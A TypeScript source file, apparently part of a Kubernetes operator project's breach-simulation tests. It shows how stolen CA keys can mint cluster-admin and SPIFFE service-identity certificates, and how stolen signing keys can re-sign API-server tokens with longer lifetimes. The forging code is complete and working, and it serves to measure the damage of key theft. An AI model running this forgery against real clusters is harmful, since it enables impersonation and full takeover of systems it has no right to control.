import '@hansa/operator/identity/reflect-metadata.ts'
import { createPrivateKey, createPublicKey, sign, webcrypto, X509Certificate } from 'node:crypto'
import * as x509 from '@peculiar/x509'
import { createAuthority } from '../../cluster/owner/certificates.ts'
import type { Credential, Haul } from './haul.ts'

const day = 24 * 3600 * 1000
/** What an attacker would like to be at the API server, and to a process of Hansa. */
const wishes = [
  { subject: 'O=system:masters, CN=hansa-admin' },
  { subject: 'CN=forged', uri: 'spiffe://cluster.hansa/ns/hansa-system/sa/hansa-operator' },
  { subject: 'CN=forged', uri: 'spiffe://cluster.hansa/ns/hansa-system/sa/hansa-gateway' },
] as const

/** What a thief makes of stolen keys: certificates of stolen authorities, and tokens signed by every stolen key. */
export async function forge(haul: Haul): Promise<Credential[]> {
  const found = haul.credentials()
  const certificates = found.flatMap((each) => (each.kind === 'Certificate' ? [each] : []))
  const forged: Credential[] = []
  for (const { certPem, keyPem, where } of certificates) {
    if (!new X509Certificate(certPem).ca) continue
    for (const wish of wishes) {
      const made = await issue({ certPem, keyPem }, wish).catch(() => undefined) // keys of a kind that WebCrypto does not take
      if (made !== undefined) forged.push({ kind: 'Certificate', ...made, where: `forged with ${where}` })
    }
  }
  const tokens = found.flatMap((each) => (each.kind === 'Token' ? [each.token] : []))
  const claims = [...new Set(tokens.map(claimsForApiServer).filter((each) => each !== undefined))].slice(0, 3)
  for (const { keyPem, where } of [...haul.bareKeys(), ...certificates]) {
    for (const each of claims) {
      const token = resign(each, keyPem)
      if (token !== undefined) forged.push({ kind: 'Token', token, where: `forged with ${where}` })
    }
  }
  return forged
}

/** Header and claims of a token for an API server, with more time to live. */
function claimsForApiServer(token: string): string | undefined {
  try {
    const [head = '', body = ''] = token.split('.')
    const claims: unknown = JSON.parse(Buffer.from(body, 'base64url').toString())
    if (typeof claims !== 'object' || claims === null || !('kubernetes.io' in claims) || !('aud' in claims))
      return undefined
    if (!JSON.stringify(claims.aud).includes('kubernetes.default.svc')) return undefined
    const exp = Math.floor((Date.now() + day) / 1000)
    return `${head}.${Buffer.from(JSON.stringify({ ...claims, exp })).toString('base64url')}`
  } catch {
    return undefined // no JSON: not a token of Kubernetes
  }
}

function resign(content: string, keyPem: string): string | undefined {
  const key = createPrivateKey(keyPem)
  const bytes = Buffer.from(content)
  const { alg } = JSON.parse(Buffer.from(content.split('.')[0] ?? '', 'base64url').toString())
  const fits = alg === 'RS256' ? key.asymmetricKeyType === 'rsa' : key.asymmetricKeyType === 'ec'
  if (!fits) return undefined
  const signature = sign('sha256', bytes, alg === 'RS256' ? key : { key, dsaEncoding: 'ieee-p1363' })
  return `${content}.${signature.toString('base64url')}`
}

async function issue(
  ca: { certPem: string; keyPem: string },
  wish: { subject: string; uri?: string },
): Promise<{ certPem: string; keyPem: string }> {
  const authority = new x509.X509Certificate(ca.certPem)
  const algorithm =
    createPublicKey(ca.keyPem).asymmetricKeyType === 'rsa'
      ? { name: 'RSASSA-PKCS1-v1_5', hash: 'SHA-256' }
      : { name: 'ECDSA', namedCurve: 'P-256', hash: 'SHA-256' }
  const der = createPrivateKey(ca.keyPem).export({ type: 'pkcs8', format: 'der' })
  const signingKey = await webcrypto.subtle.importKey('pkcs8', der, algorithm, false, ['sign'])
  // A key pair of this machine's own making; its first certificate is of no use.
  const { keyPem } = await (await createAuthority('attacker')).issue({ commonName: 'attacker' })
  const spki = createPublicKey(keyPem).export({ type: 'spki', format: 'der' })
  const publicKey = await webcrypto.subtle.importKey('spki', spki, { name: 'ECDSA', namedCurve: 'P-256' }, true, [
    'verify',
  ])
  const certificate = await x509.X509CertificateGenerator.create({
    serialNumber: '0f1e2d3c',
    issuer: authority.subjectName,
    subject: wish.subject,
    notBefore: new Date(Date.now() - 60_000),
    notAfter: new Date(Date.now() + day),
    signingKey,
    signingAlgorithm: algorithm,
    publicKey,
    extensions: [
      new x509.BasicConstraintsExtension(false, undefined, true),
      new x509.KeyUsagesExtension(x509.KeyUsageFlags.digitalSignature, true),
      new x509.ExtendedKeyUsageExtension(['1.3.6.1.5.5.7.3.2', '1.3.6.1.5.5.7.3.1']),
      ...(wish.uri === undefined ? [] : [new x509.SubjectAlternativeNameExtension([{ type: 'url', value: wish.uri }])]),
    ],
  })
  return { certPem: certificate.toString('pem'), keyPem }
}
